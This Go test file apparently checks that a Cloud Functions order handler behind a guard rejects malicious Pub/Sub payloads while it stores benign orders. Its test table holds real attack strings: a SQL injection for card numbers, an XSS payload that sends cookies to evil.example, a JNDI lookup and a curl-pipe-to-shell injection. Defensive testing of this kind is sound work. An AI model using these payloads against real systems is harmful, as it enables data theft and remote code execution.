package main

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"testing"
	"time"

	"github.com/fnguard/fnguard/internal/fftest"
)

// ff is the real Functions Framework serving ProcessOrder, served at "/" and every path below it
// (registration is global and the framework cannot be stopped, so tests
// share it).
var ff = fftest.Server{Target: "ProcessOrder", Register: register}

// server returns the framework's base URL, starting it on first use.
func server(t *testing.T) string { return ff.URL(t) }

var client = &http.Client{Timeout: 10 * time.Second}

const topic = "//pubsub.googleapis.com/projects/shop/topics/orders"

// envelope is the data of a Pub/Sub CloudEvent carrying payload.
func envelope(id, payload string) string {
	b, _ := json.Marshal(map[string]any{
		"message": map[string]any{
			"data":       base64.StdEncoding.EncodeToString([]byte(payload)),
			"messageId":  id,
			"attributes": map[string]string{"origin": "web"},
		},
		"subscription": "projects/shop/subscriptions/process-order",
	})
	return string(b)
}

func order(id, customer string) string {
	return fmt.Sprintf(`{"id":%q,"customer":%q,"sku":"BK-1029","qty":2}`, id, customer)
}

func TestProcessOrderThroughFramework(t *testing.T) {
	base := server(t)
	type request struct {
		path    string
		headers map[string]string
		body    string
	}
	binary := func(id, payload string) request {
		return request{"/", map[string]string{
			"Content-Type":   "application/json",
			"Ce-Id":          id,
			"Ce-Specversion": "1.0",
			"Ce-Type":        "google.cloud.pubsub.topic.v1.messagePublished",
			"Ce-Source":      topic,
			"Ce-Time":        "2024-06-11T09:41:27.512Z",
		}, envelope(id, payload)}
	}
	structured := func(id, payload string) request {
		return request{"/", map[string]string{"Content-Type": "application/cloudevents+json"}, fmt.Sprintf(
			`{"specversion":"1.0","id":%q,"type":"google.cloud.pubsub.topic.v1.messagePublished","source":%q,"datacontenttype":"application/json","data":%s}`,
			id, topic, envelope(id, payload))}
	}
	push := func(id, payload string) request {
		// A Pub/Sub push subscription (no CloudEvents headers) to a URL
		// naming the topic: the framework turns it into a CloudEvent.
		return request{"/projects/shop/topics/orders", map[string]string{"Content-Type": "application/json"}, envelope(id, payload)}
	}
	tests := []struct {
		name    string
		req     request
		orderID string // the order that must (ok) or must not (!ok) be stored
		ok      bool
	}{
		{"binary mode, benign", binary("m-1", order("o-1", "Siobhán O'Brien")), "o-1", true},
		{"binary mode, SQLi", binary("m-2", order("o-2", "x' UNION SELECT card_number FROM payments--")), "o-2", false},
		{"structured mode, benign", structured("m-3", order("o-3", "Ada Lovelace")), "o-3", true},
		{"structured mode, XSS", structured("m-4", order("o-4", "<script>fetch('//evil.example/'+document.cookie)</script>")), "o-4", false},
		{"pubsub push, benign", push("m-5", order("o-5", "Grace Hopper")), "o-5", true},
		{"pubsub push, malicious payload", push("m-6", order("o-6", "${jndi:ldap://evil.example/a}")), "o-6", false},
		{"pubsub push, command injection", push("m-7", order("o-7", "bob; curl http://evil.example/x | sh")), "o-7", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req, err := http.NewRequestWithContext(t.Context(), "POST", base+tt.req.path, bytes.NewBufferString(tt.req.body))
			if err != nil {
				t.Fatal(err)
			}
			for k, v := range tt.req.headers {
				req.Header.Set(k, v)
			}
			resp, err := client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			success := resp.StatusCode >= 200 && resp.StatusCode < 300
			if success != tt.ok {
				t.Fatalf("status %d (%s), want 2xx=%v", resp.StatusCode, bytes.TrimSpace(body), tt.ok)
			}
			o, stored := orders.find(tt.orderID)
			if stored != tt.ok {
				t.Fatalf("order %s stored=%v, want %v (%+v)", tt.orderID, stored, tt.ok, o)
			}
		})
	}
}
